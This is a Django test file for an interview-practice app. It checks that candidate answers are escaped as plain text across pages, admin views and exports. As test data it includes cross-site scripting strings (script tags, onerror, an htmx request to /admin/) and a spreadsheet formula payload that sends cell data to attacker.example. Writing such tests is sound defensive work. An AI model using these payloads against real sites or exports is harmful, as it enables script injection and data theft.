"""Answers with HTML, scripts, htmx attributes or template syntax are shown as plain text everywhere."""

import csv
import io
import json

import pytest
from django.test import Client

from interviews.models import SessionItem
from interviews.services import practice_session_create, session_start

HOSTILE = (
    '<script>alert("x")</script><img src=x onerror=alert(2)>'
    '<div hx-get="/admin/" hx-trigger="load">swap</div>'
    "{{ request.user }} {% debug %} &amp; "
)
# What the page must show instead: the characters themselves, escaped once.
ESCAPED_SCRIPT = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;"
LIVE_MARKUP = ("<script>alert", "<img src=x", "onerror=alert(2)>", '<div hx-get="/admin/"')


def assert_plain_text(html: str, *, where: str) -> None:
    for fragment in LIVE_MARKUP:
        assert fragment not in html, f"{where}: live markup {fragment!r}"
    assert ESCAPED_SCRIPT in html, f"{where}: the answer is not shown"
    assert "{{ request.user }}" in html and "{% debug %}" in html, f"{where}: template syntax ran"
    assert "&amp;amp;" in html, f"{where}: entities must be shown, not decoded"


@pytest.fixture
def finished_session(candidate, make_question):
    """A candidate answers both questions of a practice session with hostile text, through the views."""
    for number in (1, 2):
        make_question("docker", number)
    from content.models import Topic

    session = practice_session_create(
        candidate=candidate,
        topics=[Topic.objects.get(slug="docker")],
        count=2,
        level="expert",
        per_item_seconds=180,
        total_seconds=None,
        feedback_mode="after_each",
    )
    session_start(session=session)
    client = Client()
    client.force_login(candidate)
    pages = {}
    for answer_number in (1, 2):
        item = session.items.get(status=SessionItem.Status.ACTIVE)
        base = f"/sessions/{session.pk}/items/{item.position}/"
        saved = client.post(base + "autosave/", {"revision": 1, "answer_text": HOSTILE})
        pages[f"autosave {answer_number}"] = saved
        pages[f"reloaded page {answer_number}"] = client.get(f"/sessions/{session.pk}/")
        pages[f"feedback {answer_number}"] = client.post(
            base + "submit/", {"answer_text": HOSTILE, "revision": 2}, HTTP_HX_REQUEST="true"
        )
        if answer_number == 1:
            client.post(f"/sessions/{session.pk}/next/", HTTP_HX_REQUEST="true")
    pages["results"] = client.get(f"/sessions/{session.pk}/results/")
    session.refresh_from_db()
    return session, pages


@pytest.mark.django_db
def test_autosave_answers_json_without_echoing_markup(finished_session):
    _, pages = finished_session
    response = pages["autosave 1"]
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/json"
    assert "<script>" not in response.content.decode()


@pytest.mark.django_db
def test_candidate_pages_show_the_answer_as_text(finished_session):
    session, pages = finished_session
    assert not session.is_running
    for name in ("reloaded page 1", "feedback 1", "reloaded page 2", "feedback 2", "results"):
        assert pages[name].status_code == 200, name
        assert_plain_text(pages[name].content.decode(), where=name)


@pytest.fixture
def staff_client(django_user_model):
    staff = django_user_model.objects.create_user(
        "sam", password="a-long-passphrase-3", is_staff=True
    )
    client = Client()
    client.force_login(staff)
    return client


@pytest.mark.django_db
def test_interviewer_transcript_and_exports_show_the_answer_as_text(finished_session, staff_client):
    session, _ = finished_session
    transcript = staff_client.get(f"/interviewer/sessions/{session.pk}/transcript/")
    assert transcript.status_code == 200
    assert_plain_text(transcript.content.decode(), where="transcript")
    detail = staff_client.get(f"/interviewer/sessions/{session.pk}/")
    assert detail.status_code == 200
    for fragment in LIVE_MARKUP:
        assert fragment not in detail.content.decode()

    exported = staff_client.get(f"/interviewer/sessions/{session.pk}/transcript.json")
    data = json.loads(exported.content)
    assert {item["answer"] for item in data["items"]} == {HOSTILE}

    exported_csv = staff_client.get(f"/interviewer/sessions/{session.pk}/transcript.csv")
    rows = list(csv.DictReader(io.StringIO(exported_csv.content.decode())))
    assert {row["answer"] for row in rows} == {HOSTILE}


@pytest.mark.django_db
def test_csv_export_neutralises_spreadsheet_formulas(candidate, start_practice, staff_client):
    session, item = start_practice()
    client = Client()
    client.force_login(candidate)
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    client.post(
        f"/sessions/{session.pk}/items/{item.position}/submit/",
        {"answer_text": formula, "revision": 1},
    )
    exported = staff_client.get(f"/interviewer/sessions/{session.pk}/transcript.csv")
    rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
    # Shown as text by spreadsheets, and nothing of what the candidate wrote is lost.
    assert rows[0]["answer"] == "'" + formula


@pytest.mark.django_db
def test_admin_shows_question_text_as_text(make_question, django_user_model):
    question = make_question("docker", 1)
    question.text = HOSTILE
    question.save()
    admin = django_user_model.objects.create_superuser("root", "root@example.com", "a-long-pass-4")
    client = Client()
    client.force_login(admin)
    for url in ("/admin/content/question/", f"/admin/content/question/{question.pk}/change/"):
        html = client.get(url).content.decode()
        for fragment in LIVE_MARKUP:
            assert fragment not in html, url
        assert "{{ request.user }}" in html, url


@pytest.mark.django_db
def test_admin_shows_answers_as_text(finished_session, django_user_model):
    session, _ = finished_session
    item = session.items.order_by("position").first()
    admin = django_user_model.objects.create_superuser("root", "root@example.com", "a-long-pass-4")
    client = Client()
    client.force_login(admin)
    for url in (
        f"/admin/interviews/sessionitem/{item.pk}/change/",
        "/admin/interviews/sessionitem/?q=script",
        f"/admin/interviews/interviewsession/{session.pk}/change/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        for fragment in LIVE_MARKUP:
            assert fragment not in html, url
    change_page = client.get(f"/admin/interviews/sessionitem/{item.pk}/change/").content.decode()
    assert ESCAPED_SCRIPT in change_page
